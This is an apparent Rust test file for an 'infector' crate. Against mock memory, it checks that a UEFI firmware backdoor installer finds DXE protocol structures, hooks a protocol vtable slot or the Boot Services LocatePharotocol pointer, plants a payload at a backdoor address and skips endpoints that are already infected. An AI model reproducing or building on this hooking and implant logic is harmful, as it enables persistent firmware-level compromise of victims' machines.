//! End-to-end scenarios run against a single `MockTransport`, each
//! exercising scanner + protocol walker + hook installer together rather
//! than one module at a time.

mod common;

use infector::addr::{
    BACKDOOR_ADDR, DEFAULT_HOOK_SLOT, EFI_BOOT_SERVICES_LOCATE_PROTOCOL_OFFSET,
    EFI_CPU_IO2_PROTOCOL_GUID, EFI_SYSTEM_TABLE_BOOT_SERVICES_OFFSET,
    EFI_SYSTEM_TABLE_SIGNATURE, HEADER_MAGIC, PROTOCOL_ENTRY_INTERFACE_HEAD_OFFSET,
    PROTOCOL_ENTRY_SIGNATURE, PROTOCOL_INTERFACE_FLINK_FIELD_OFFSET,
    PROTOCOL_INTERFACE_SIGNATURE, ST_SCAN_FROM, STATUS_ADDR, STUB_ADDR,
};
use infector::hook::{build_stub, install_protocol_hook, install_system_table_hook, HookMethod, ProtocolHookTarget};
use infector::scanner::ProtScanBounds;
use infector::supervisor::check_endpoint;
use infector::transport::{MockTransport, Transport};

use common::{build_minimal_pe, SectionSpec};

/// A DXE-stage payload whose header `AddressOfEntryPoint` is `entry_offset`
/// (so `entry_rva == entry_offset` once planted) and whose `.conf` record's
/// `entry_va` field holds the corresponding absolute VA pre-patch, matching
/// what a real linker would emit.
fn build_payload(image_base: u64, entry_offset: u64) -> Vec<u8> {
    let mut data = build_minimal_pe(
        image_base,
        entry_offset as u32,
        0x3000,
        &[SectionSpec { name: ".conf", virtual_address: 0x1000, size_of_raw_data: 0x1000, pointer_to_raw_data: 0x1000 }],
        0x2000,
    );
    let entry_va = image_base + entry_offset;
    data[0x1000..0x1008].copy_from_slice(&entry_va.to_le_bytes());
    // locate_protocol / system_table placeholders, overwritten by the installer
    data[0x1008..0x1010].copy_from_slice(&0u64.to_le_bytes());
    data[0x1010..0x1018].copy_from_slice(&0u64.to_le_bytes());
    data
}

#[test]
fn happy_path_protocol_hook_installs_trampoline_and_arms_slot() {
    let mut dev = MockTransport::new();

    // DXE driver carrying a pointer to the protocol database, placed one
    // page into the default protocol-entry scan window.
    let image_addr = 0x9500_1000u64;
    let entry_addr = 0x9400_1008u64; // below image_addr, low 12 bits nonzero
    let image = build_minimal_pe(0x9400_0000, 0, 0x4000, &[
        SectionSpec { name: ".data", virtual_address: 0x2000, size_of_raw_data: 0x2000, pointer_to_raw_data: 0 },
    ], 1024);
    dev.write_bytes(image_addr, &image);
    dev.write_u64_at(image_addr + 0x2000, entry_addr);

    // ProtocolEntry: single, self-referencing circular entry.
    dev.write_bytes(entry_addr, PROTOCOL_ENTRY_SIGNATURE);
    dev.write_u64_at(entry_addr + 8, entry_addr + 8); // next (self loop)
    dev.write_u64_at(entry_addr + 16, entry_addr + 16); // prev
    dev.write_bytes(entry_addr + 24, EFI_CPU_IO2_PROTOCOL_GUID.to_bytes_le().as_slice());

    let intf_rec = 0x9B10_0000u64;
    let head = entry_addr + PROTOCOL_ENTRY_INTERFACE_HEAD_OFFSET;
    dev.write_u64_at(head, intf_rec + PROTOCOL_INTERFACE_FLINK_FIELD_OFFSET);
    dev.write_u64_at(head + 8, intf_rec + PROTOCOL_INTERFACE_FLINK_FIELD_OFFSET);

    // ProtocolInterface: single, self-referencing circular interface.
    let interface_vtable = 0x9B00_0000u64;
    dev.write_bytes(intf_rec, PROTOCOL_INTERFACE_SIGNATURE);
    dev.write_u64_at(intf_rec + 0x20, intf_rec + 0x20); // flink (self loop)
    dev.write_u64_at(intf_rec + 0x28, intf_rec + 0x20); // blink
    dev.write_u64_at(intf_rec + 0x30, entry_addr); // owning entry back-ref
    dev.write_u64_at(intf_rec + 0x38, interface_vtable);

    let patch_ptr = interface_vtable + DEFAULT_HOOK_SLOT * 8;
    let patch_val = 0x9B00_5000u64;
    dev.write_u64_at(patch_ptr, patch_val);

    let payload = build_payload(0x1400_0000, 0x55);
    let state = install_protocol_hook(
        &mut dev,
        &payload,
        None,
        ProtocolHookTarget::default(),
        ProtScanBounds::default(),
    )
    .unwrap();

    assert_eq!(state.hook_method, Some(HookMethod::Protocol));
    assert_eq!(state.protocol_entry, Some(entry_addr));
    assert_eq!(state.interface_addr, Some(interface_vtable));
    assert_eq!(state.patch_site, Some(patch_ptr));
    assert_eq!(state.original_value, Some(patch_val));
    assert_eq!(state.entry_addr, Some(BACKDOOR_ADDR + 0x55));

    // Hook armed: the slot now points at the trampoline.
    assert_eq!(dev.read_u64(patch_ptr).unwrap(), STUB_ADDR);

    // Trampoline bytes match the pure `build_stub` computation exactly.
    let expected = build_stub(patch_val, patch_ptr, BACKDOOR_ADDR + 0x55);
    let written = dev.read(STUB_ADDR, expected.len()).unwrap();
    assert_eq!(written, expected);

    // Payload planted at BACKDOOR_ADDR, status cell cleared.
    assert_eq!(dev.read(BACKDOOR_ADDR, 2).unwrap().as_slice(), HEADER_MAGIC.as_slice());
    assert_eq!(dev.read_u64(STATUS_ADDR).unwrap(), 0);
    assert_eq!(dev.read_u64(STATUS_ADDR + 8).unwrap(), 0);
}

#[test]
fn already_infected_refuses_before_any_discovery_runs() {
    let mut dev = MockTransport::new();
    dev.write_bytes(BACKDOOR_ADDR, &HEADER_MAGIC);

    let err = check_endpoint(&mut dev, false).unwrap_err();
    assert!(matches!(err, infector::error::InstallError::AlreadyInfected));

    // Nothing beyond the marker itself was ever written.
    assert_eq!(dev.read_u64(STATUS_ADDR).unwrap(), 0);
    assert_eq!(dev.read_u64(STUB_ADDR).unwrap(), 0);
}

#[test]
fn system_table_hook_resolves_boot_services_chain_and_patches_locate_protocol() {
    let mut dev = MockTransport::new();

    // DXE driver sitting right at the top of the system-table scan window.
    let image_addr = ST_SCAN_FROM;
    let image = build_minimal_pe(0xE000_0000, 0, 0x4000, &[
        SectionSpec { name: ".data", virtual_address: 0x3000, size_of_raw_data: 0x1000, pointer_to_raw_data: 0 },
    ], 1024);
    dev.write_bytes(image_addr, &image);

    let system_table = 0x1800_0000u64;
    dev.write_u64_at(image_addr + 0x3000, system_table);
    dev.write_bytes(system_table, &EFI_SYSTEM_TABLE_SIGNATURE);

    let boot_services = 0x1900_0000u64;
    dev.write_u64_at(system_table + EFI_SYSTEM_TABLE_BOOT_SERVICES_OFFSET, boot_services);

    let locate_protocol = 0x1A00_0000u64;
    dev.write_u64_at(boot_services + EFI_BOOT_SERVICES_LOCATE_PROTOCOL_OFFSET, locate_protocol);

    let payload = build_payload(0x1400_0000, 0x77);
    let state = install_system_table_hook(&mut dev, &payload, None).unwrap();

    assert_eq!(state.hook_method, Some(HookMethod::SystemTable));
    assert_eq!(state.system_table, Some(system_table));
    assert_eq!(state.boot_services, Some(boot_services));
    assert_eq!(state.locate_protocol, Some(locate_protocol));
    assert_eq!(state.patch_site, Some(boot_services + EFI_BOOT_SERVICES_LOCATE_PROTOCOL_OFFSET));
    assert_eq!(state.original_value, Some(locate_protocol));
    assert_eq!(state.entry_addr, Some(BACKDOOR_ADDR + 0x77));

    let patched_slot = dev.read_u64(boot_services + EFI_BOOT_SERVICES_LOCATE_PROTOCOL_OFFSET).unwrap();
    assert_eq!(patched_slot, BACKDOOR_ADDR + 0x77);
    assert_eq!(dev.read(BACKDOOR_ADDR, 2).unwrap().as_slice(), HEADER_MAGIC.as_slice());
}
